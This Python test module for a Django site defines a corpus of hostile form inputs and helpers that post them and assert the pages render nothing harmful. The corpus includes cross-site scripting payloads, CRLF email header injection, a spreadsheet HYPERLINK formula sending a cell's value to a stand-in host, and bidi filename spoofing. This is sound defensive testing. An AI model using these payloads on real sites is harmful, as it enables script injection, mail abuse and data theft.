"""What somebody who means harm types into a form, how it's posted, and what must not come of it."""

from __future__ import annotations

from urllib.parse import urlencode

from django.db import connection
from django.http import HttpResponse
from django.test import Client

from tests.campaign.reading import elements

MEGABYTE = "a" * 1_000_000
BIDI, ZERO_WIDTH = "\u202e", "\u200b"
# Bytes are posted as they are: no text can hold what isn't UTF-8, such as the half of a surrogate pair.
CORPUS: dict[str, str | bytes] = {
    "a script": (
        'River <script>alert(1)</script> "\' onerror="alert(1)" onfocus=\'alert(1)\' x="><img src=x onerror=alert(1)>'
    ),
    "a link that is a script": "[River](javascript:alert(1)) <javascript:alert(1)> ![River](javascript:alert(1))",
    "a header": "River\r\nBcc: everybody@example.org\r\nX-Injected: yes\r\n\r\nRiver",
    "a formula": '=HYPERLINK("https://evil.example?"&A1,"River")',
    "what hides": f"Ri{ZERO_WIDTH}ver {BIDI}gpj.exe",
    "a NUL": "River\0bank",
    "what isn't UTF-8": b"River \xff\xc0\xaf \xed\xa0\x80",
}
TEXT_INPUTS = {"text", "search", "email", "tel", "url"}
Typed = dict[str, str | bytes]


def text_fields(page: str) -> set[str]:
    """The names of the fields of a page that take any text."""
    found = set()
    for tag, values in elements(page):
        if tag == "textarea" or (tag == "input" and values.get("type", "text") in TEXT_INPUTS):
            found.add(values.get("name", ""))
    return found - {"", "website"}


def refused_fields(page: str) -> set[str]:
    """The names of the fields that the page says are wrong."""
    if "aria-invalid" not in page:
        return set()
    return {values.get("name", "") for _tag, values in elements(page) if values.get("aria-invalid") == "true"}


def post(client: Client, path: str, typed: Typed) -> HttpResponse:
    """Send a form as a browser does that has no files to send."""
    return client.post(path, urlencode(typed, doseq=True), content_type="application/x-www-form-urlencoded")


def assert_harmless(answer: HttpResponse) -> None:
    """A page, or the way to one, that carries out nothing of what was typed."""
    assert answer.status_code < 500
    assert "X-Injected" not in answer
    assert "Bcc" not in answer
    if not answer.get("Content-Type", "").startswith("text/html") or answer.streaming:
        return
    page = answer.content.decode()
    assert "<script>alert(" not in page
    for tag, values in elements(page) if "alert(" in page else ():
        assert not [name for name, value in values.items() if name.startswith("on") and "alert(" in value], values
        for name in ("href", "src", "action", "formaction"):
            address = "".join(values.get(name, "").split()).casefold()
            assert not address.startswith("javascript:"), (tag, values)


def tables_with(*texts: str) -> set[str]:
    """The tables of the database that hold any of these texts in any row."""
    with connection.cursor() as cursor:
        tables = connection.introspection.table_names(cursor)
        rows = (f"SELECT '{table}' FROM \"{table}\" AS row WHERE row::text ~ %(texts)s" for table in tables)
        cursor.execute(" UNION ".join(rows), {"texts": "|".join(texts)})
        return {table for (table,) in cursor.fetchall()}
